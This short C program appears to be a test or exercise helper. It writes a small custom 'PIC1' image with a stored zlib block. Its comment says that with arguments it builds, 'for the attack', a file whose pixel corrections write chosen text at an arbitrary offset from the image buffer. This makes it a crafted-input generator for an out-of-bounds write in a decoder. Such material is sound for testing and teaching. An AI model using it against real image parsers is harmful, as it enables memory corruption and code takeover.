/* Makes a picture: draw [DISTANCE TEXT] >FILE
 *
 * With arguments, for the attack: a picture whose corrections put the text DISTANCE bytes from the first pixel.
 * The zlib stream is one stored block (RFC 1950 and 1951), so that this needs no library. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define SIDE 16

static unsigned char content[4096];
static size_t size;

static void add_correction(int32_t distance, char value)
{
	if (size + 5 > sizeof(content)) {
		fprintf(stderr, "draw: the text is too long\n");
		exit(1);
	}
	memcpy(content + size, &distance, 4);
	content[size + 4] = (unsigned char)value;
	size += 5;
}

static uint32_t adler32(void)
{
	uint32_t a = 1, b = 0;

	for (size_t i = 0; i < size; i++) {
		a = (a + content[i]) % 65521;
		b = (b + a) % 65521;
	}
	return b << 16 | a;
}

int main(int argc, char **argv)
{
	uint32_t sum;

	for (size = 0; size < SIDE * SIDE; size++)
		content[size] = (unsigned char)size;
	if (argc == 3)
		for (size_t i = 0; i <= strlen(argv[2]); i++)
			add_correction((int32_t)strtol(argv[1], NULL, 0) + (int32_t)i, argv[2][i]);
	else
		add_correction(3, 1);
	sum = adler32();
	printf("PIC1%c%c\x78\x01\x01%c%c%c%c", SIDE, SIDE, (int)(size & 255), (int)(size >> 8), (int)(~size & 255),
	       (int)(~size >> 8 & 255));
	fwrite(content, 1, size, stdout);
	printf("%c%c%c%c", (int)(sum >> 24), (int)(sum >> 16 & 255), (int)(sum >> 8 & 255), (int)(sum & 255));
	return fflush(stdout) != 0;
}
